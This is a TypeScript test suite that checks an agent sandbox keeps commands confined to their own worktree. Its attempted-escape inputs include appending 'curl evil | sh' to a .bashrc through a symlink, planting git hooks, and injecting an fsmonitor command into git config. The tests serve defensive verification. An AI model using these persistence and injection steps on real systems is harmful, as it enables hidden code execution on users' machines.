import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeSandboxWorld, overrideEnv, type SandboxWorld } from './sandboxWorld.js';

/** SECURITY.md promises 1-3: an agent command writes its own worktree and nothing else. */
let world: SandboxWorld;
let restoreEnv: () => void;

beforeAll(async () => {
  world = await makeSandboxWorld();
  restoreEnv = overrideEnv({ HOME: world.userHome });
});

afterAll(() => {
  restoreEnv();
  world.dispose();
});

const q = (p: string) => `'${p.replaceAll("'", `'\\''`)}'`;

describe('the sandbox filesystem', () => {
  it('lets a command write its worktree, its HOME and its private /tmp (control)', async () => {
    const result = await world.run(`echo made > made.txt && echo cache > "$HOME/cache.txt" && echo t > /tmp/t && cat /tmp/t`);
    expect(result).toMatchObject({ exitCode: 0, isKilled: false });
    expect(fs.readFileSync(path.join(world.worktree, 'made.txt'), 'utf8')).toBe('made\n');
    expect(fs.readFileSync(path.join(world.taskHome, 'cache.txt'), 'utf8')).toBe('cache\n');
  });

  it("refuses writes to the user's home, and the file does not exist afterwards", async () => {
    const target = path.join(world.userHome, 'pwned.txt');
    // The home is there as an empty read-only folder (its contents hidden: sandboxHome.test.ts):
    // the refusal is about writing, not about a missing folder.
    fs.writeFileSync(path.join(world.userHome, 'notes.txt'), 'my notes\n');
    const result = await world.run(`test -d ${q(world.userHome)} && echo folder-there; cat ${q(path.join(world.userHome, 'notes.txt'))}; echo pwned > ${q(target)}`);
    expect(result.output).toContain('folder-there');
    expect(result.output).not.toContain('my notes');
    expect(result.exitCode).not.toBe(0);
    expect(result.output).toMatch(/Read-only file system/);
    expect(fs.existsSync(target)).toBe(false);
  });

  it("keeps the host's /tmp out of reach: nothing read, nothing written", async () => {
    const hostFile = path.join(os.tmpdir(), `flotilla-host-${randomUUID()}`);
    const newHostFile = `${hostFile}-new`;
    fs.writeFileSync(hostFile, 'host secret\n');
    try {
      const result = await world.run(`cat ${q(hostFile)}; echo overwritten > ${q(hostFile)}; echo planted > ${q(newHostFile)}`);
      expect(result.output).not.toContain('host secret');
      expect(fs.readFileSync(hostFile, 'utf8')).toBe('host secret\n');
      expect(fs.existsSync(newHostFile)).toBe(false);
    } finally {
      fs.rmSync(hostFile, { force: true });
      fs.rmSync(newHostFile, { force: true });
    }
  });

  it("refuses writes to another task's worktree, and cannot even see its files", async () => {
    const target = path.join(world.sibling, 'pwned.txt');
    const result = await world.run(`ls -A ${q(world.sibling)}; cat ${q(path.join(world.sibling, 'other-task.txt'))}; echo pwned > ${q(target)}`);
    expect(result.exitCode).not.toBe(0);
    expect(result.output).not.toContain('work of another task');
    expect(fs.existsSync(target)).toBe(false);
    expect(fs.readdirSync(world.sibling).sort()).toEqual(['.git', 'README.md', 'other-task.txt']);
  });

  it('refuses writes into FLOTILLA_HOME, which is hidden and read-only around the worktree', async () => {
    const target = path.join(world.flotillaHome, 'flotilla.db');
    const result = await world.run(`echo corrupted > ${q(target)} || echo REFUSED`);
    expect(result.output).toContain('Read-only file system');
    expect(result.output).toContain('REFUSED');
    expect(fs.readFileSync(target, 'utf8')).toContain('prompts and transcripts');
  });

  it('refuses writes through a symlink in the worktree that points outside', async () => {
    const outsideDir = path.join(world.userHome, 'projects');
    const outsideFile = path.join(world.userHome, '.bashrc');
    fs.mkdirSync(outsideDir, { recursive: true });
    fs.writeFileSync(outsideFile, 'alias ls=ls\n');
    const result = await world.run(
      [
        `ln -s ${q(outsideDir)} out-dir`,
        `ln -s ${q(outsideFile)} out-file`,
        `ln -s ${q(world.sibling)} out-sibling`,
        'echo pwned > out-dir/pwned.txt || echo REFUSED-1',
        'echo "curl evil | sh" >> out-file || echo REFUSED-2',
        // The other task's worktree is not even there: hidden under FLOTILLA_HOME.
        'echo pwned > out-sibling/pwned.txt || echo REFUSED-3',
      ].join('; '),
    );
    for (const n of [1, 2, 3]) expect(result.output).toContain(`REFUSED-${n}`);
    expect(fs.existsSync(path.join(outsideDir, 'pwned.txt'))).toBe(false);
    expect(fs.readFileSync(outsideFile, 'utf8')).toBe('alias ls=ls\n');
    expect(fs.existsSync(path.join(world.sibling, 'pwned.txt'))).toBe(false);
  });

  it('refuses writes to the .git pointer file, the hooks and the config of the common dir', async () => {
    const pointer = path.join(world.worktree, '.git');
    const pointerBefore = fs.readFileSync(pointer, 'utf8');
    const configBefore = fs.readFileSync(path.join(world.commonDir, 'config'), 'utf8');
    const hook = path.join(world.commonDir, 'hooks', 'x');
    const postCommit = path.join(world.commonDir, 'hooks', 'post-commit');
    const attempts = {
      pointer: 'echo "gitdir: /tmp/evil" > .git',
      pointerRemove: 'rm -f .git',
      pointerRename: 'mv .git moved-git',
      hook: `printf '#!/bin/sh\\ntouch /tmp/x\\n' > ${q(hook)}`,
      postCommit: `cp /bin/true ${q(postCommit)}`,
      config: `printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> ${q(path.join(world.commonDir, 'config'))}`,
      gitConfig: 'git config core.hooksPath /tmp',
    };
    for (const [name, command] of Object.entries(attempts)) {
      const result = await world.run(command);
      expect(result.exitCode, `${name}: ${result.output}`).not.toBe(0);
    }
    expect(fs.readFileSync(pointer, 'utf8')).toBe(pointerBefore);
    expect(fs.existsSync(path.join(world.worktree, 'moved-git'))).toBe(false);
    expect(fs.existsSync(hook)).toBe(false);
    expect(fs.existsSync(postCommit)).toBe(false);
    expect(fs.readFileSync(path.join(world.commonDir, 'config'), 'utf8')).toBe(configBefore);
  });

  it('lets git read the repo inside the sandbox but not commit', async () => {
    fs.writeFileSync(path.join(world.worktree, 'feature.txt'), 'feature\n');
    const status = await world.run('git status --short');
    expect(status).toMatchObject({ exitCode: 0 });
    expect(status.output).toContain('?? feature.txt');
    const commit = await world.run('git add feature.txt && git -c user.name=a -c user.email=a@b commit -m sneaky');
    expect(commit.exitCode).not.toBe(0);
    expect((await world.git(world.worktree, 'log', '--format=%s')).trim()).toBe('Initial commit');
  });

  it('leaves the host able to commit in the worktree afterwards (read-only exists only inside)', async () => {
    const written = await world.run('echo "from the agent" > agent.txt');
    expect(written.exitCode).toBe(0);
    await world.git(world.worktree, 'add', '--all');
    await world.git(world.worktree, 'commit', '--quiet', '--no-verify', '-m', 'checkpoint');
    expect(await world.git(world.worktree, 'show', '--name-only', '--format=%s', 'HEAD')).toContain('agent.txt');
  });
});
